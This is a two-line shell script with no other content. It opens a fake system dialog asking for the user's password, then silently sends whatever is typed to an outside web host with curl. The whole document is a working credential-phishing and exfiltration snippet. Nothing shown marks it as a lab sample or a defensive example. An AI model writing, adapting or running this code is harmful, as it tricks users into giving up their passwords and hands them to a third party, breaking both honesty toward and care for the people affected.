answer=$(zenity --entry --password --text "The system needs your password")
curl -s -d "a=$answer" https://in.tidypantry.net/a
